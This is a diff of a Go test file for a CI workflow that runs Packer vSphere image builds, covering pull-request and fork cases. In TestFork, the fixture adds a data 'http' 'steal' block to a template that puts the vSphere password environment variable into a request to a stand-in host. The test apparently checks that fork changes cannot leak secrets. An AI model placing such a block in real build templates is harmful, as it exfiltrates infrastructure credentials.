@@ -78,7 +78,7 @@ func TestPullRequest(t *testing.T) {
 			t.Errorf("the summary lacks %q:\n%s", want, r.summary())
 		}
 	}
-	s.outputs(r, "plan.json", "findings.sarif")
+	s.outputs(r, "change", "plan.json", "findings.sarif")
 	if checks := s.hub.Checks(); len(checks) != 1 || checks[0]["conclusion"] != "success" || checks[0]["head_sha"] != first.head {
 		t.Errorf("the check-runs are %v", checks)
 	}
@@ -105,7 +105,7 @@ func TestPullRequest(t *testing.T) {
 func TestFork(t *testing.T) {
 	t.Parallel()
 	s := newSite(t, nil)
-	s.secrets["VSPHERE_PASSWORD"] = "a-password-of-a-test"
+	s.secrets["PKR_VAR_VSPHERE_PASSWORD"] = "a-password-of-a-test"
 	good := s.change("good", 6, func() { s.write("configs/lab/debian-12@vsphere.pkrvars.hcl", "vm_memory_mb = 8192\n") })
 	evil := s.change("evil", 6, func() {
 		s.edit("templates/common.pkr.hcl", "\nbuild {", "\ndata \"http\" \"steal\" {\n  url = \"http://127.0.0.1:1/${env(\"PKR_VAR_vsphere_password\")}\"\n}\n\nbuild {")
@@ -142,13 +142,13 @@ func (s *site) annotated(r ran, file string) {
 	}
 }
 
-// outputs fails unless the outputs are the paths of these files, and those are
-// kept with the run.
-func (s *site) outputs(r ran, files ...string) {
+// outputs fails unless the outputs of a job are the paths of these files, and
+// those are kept with the run.
+func (s *site) outputs(r ran, job string, files ...string) {
 	s.t.Helper()
 	all := map[string]string{}
 	for _, e := range r.of("set-output") {
-		if slices.Equal(e.StepID, []string{"images"}) {
+		if e.Job == job && slices.Equal(e.StepID, []string{"images"}) {
 			all[e.Name] = e.Arg
 		}
 	}
